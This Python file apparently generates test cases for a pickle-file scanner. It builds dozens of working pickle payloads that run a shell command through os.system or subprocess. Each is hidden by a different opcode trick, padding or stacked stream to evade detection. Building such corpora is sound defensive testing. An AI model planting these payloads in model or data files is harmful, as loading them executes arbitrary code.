"""One command, `os.system`, by every way that opcodes have to name, make and call things; and streams that hide where they end."""

import pickle
import struct

from armed import armed
from assembly import call, stream
from opcodes import HEAD, content, dots, glob, many, text


class Command:
    """Pickles as a command."""

    def __init__(self, shell):
        self.shell = shell

    def __reduce__(self):
        import os

        return os.system, (self.shell,)


def short(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


SYSTEM = glob("os", "system")
FORMS = {
    "INST": lambda shell: b"(S'%s'\nios\nsystem\n." % shell,
    "OBJ": lambda shell: b"(cos\nsystem\nS'%s'\no." % shell,
    "GLOBAL of Python 2's name": lambda shell: b"\x80\x02c__builtin__\neval\n(S\"__import__('os').system('%s')\"\ntR." % shell,
    "NEWOBJ of a class that starts a program": lambda shell: (
        HEAD
        + glob("subprocess", "Popen")
        + many(text("/bin/sh"))[:-1]
        + b"t0"
        + glob("subprocess", "Popen")
        + many(b"](" + text("sh") + text("-c") + text(shell.decode()) + b"e")
        + b"R."
    ),
    "EXT1 of a code that the stream registers": lambda shell: (
        HEAD
        + call_of("copyreg", "add_extension", text("os"), text("system"), b"K\x07")
        + b"0\x82\x07"
        + many(text(shell.decode()))
        + b"R."
    ),
    "name of memoised texts": lambda shell: (
        HEAD + text("os") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93" + many(text(shell.decode())) + b"R."
    ),
    "name of STRING opcodes with escapes": lambda shell: (
        HEAD + b"S'o\\x73'\nS'sys\\x74em'\n\x93" + many(text(shell.decode())) + b"R."
    ),
    "dotted name through another module": lambda shell: HEAD + glob("shutil", "os.system") + many(text(shell.decode())) + b"R.",
    "called twice by DUP": lambda shell: HEAD + SYSTEM + b"2" + many(text(shell.decode())) + b"R.",
    "result thrown away": lambda shell: HEAD + SYSTEM + many(text(shell.decode())) + b"R0N.",
    "as a key": lambda shell: HEAD + b"}" + SYSTEM + many(text(shell.decode())) + b"RNs.",
    "below a mark that is popped": lambda shell: HEAD + b"(" + SYSTEM + many(text(shell.decode())) + b"R1N.",
    "a frame around half of it": lambda shell: (
        HEAD + b"\x95" + struct.pack("<Q", len(SYSTEM)) + SYSTEM + many(text(shell.decode())) + b"R."
    ),
    "a second PROTO in the middle": lambda shell: HEAD + SYSTEM + b"\x80\x02" + many(text(shell.decode())) + b"R.",
    "no PROTO at all": lambda shell: SYSTEM + many(text(shell.decode())) + b"R.",
    "no STOP": lambda shell: HEAD + SYSTEM + many(text(shell.decode())) + b"R",
    "an unknown opcode behind the call": lambda shell: HEAD + SYSTEM + many(text(shell.decode())) + b"R\xff.",
    "a stack that is too short behind the call": lambda shell: HEAD + SYSTEM + many(text(shell.decode())) + b"R0000.",
    "junk behind it": lambda shell: HEAD + SYSTEM + many(text(shell.decode())) + b"R." + bytes(range(256)),
    "a thousand harmless objects before it": lambda shell: (
        HEAD + b"](" + b"K\x01" * 1000 + b"e0" + SYSTEM + many(text(shell.decode())) + b"R."
    ),
    "a text of a megabyte before it": lambda shell: (
        HEAD + text("a" * (1 << 20)) + b"0" + SYSTEM + many(text(shell.decode())) + b"R."
    ),
    "BINUNICODE8 for the name": lambda shell: (
        HEAD + b"\x8d" + struct.pack("<Q", 2) + b"os" + short("system") + b"\x93" + many(text(shell.decode())) + b"R."
    ),
    "a state of getattr's making": lambda shell: stream(
        call(call("builtins:getattr", call("importlib:import_module", "os"), "system"), shell.decode())
    ),
    "arguments of a list": lambda shell: (
        HEAD + glob("builtins", "tuple") + many(b"](" + text(shell.decode()) + b"e") + b"Rq\x000" + SYSTEM + b"h\x00R."
    ),
    "EXT2 of a code that the stream registers": lambda shell: (
        HEAD
        + call_of("copyreg", "add_extension", text("os"), text("system"), b"M\x00\x01")
        + b"0\x83\x00\x01"
        + many(text(shell.decode()))
        + b"R."
    ),
    "dots of protocol 0": lambda shell: dots("os", "system") + b"(V" + shell + b"\ntR.",
    "bytes that are a pickle": lambda shell: (
        HEAD + glob("pickle", "loads") + many(content(HEAD + SYSTEM + many(text(shell.decode())) + b"R.")) + b"R."
    ),
}


def call_of(module, name, *arguments):
    return glob(module, name) + many(*arguments) + b"R"


for number in range(pickle.HIGHEST_PROTOCOL + 1):

    def of_protocol(effect, path, protocol=number):
        return pickle.dumps({"weights": [1.0, 2.0], "hook": Command(effect.shell)}, protocol)

    armed(f"protocol {number}", "what Python's pickler writes")(of_protocol)

for form, written in FORMS.items():

    def of_form(effect, path, write=written):
        return write(effect.shell.encode())

    armed(f"opcodes: {form}", "opcodes")(of_form)


@armed("two pickles: the second is armed", "pickles one behind the other", "every pickle of the file")
def second(effect, path):
    return pickle.dumps({"weights": [1.0]}) + effect.system


@armed("two pickles: zeros between them", "pickles one behind the other", "every pickle of the file")
def with_zeros(effect, path):
    return pickle.dumps({"weights": [1.0]}) + bytes(7) + effect.system


@armed("three pickles: the last is armed, of protocol 0", "pickles one behind the other", "every pickle of the file")
def third(effect, path):
    return pickle.dumps(1) + pickle.dumps(2, 0) + b"cos\nsystem\n(V" + effect.shell.encode() + b"\ntR."
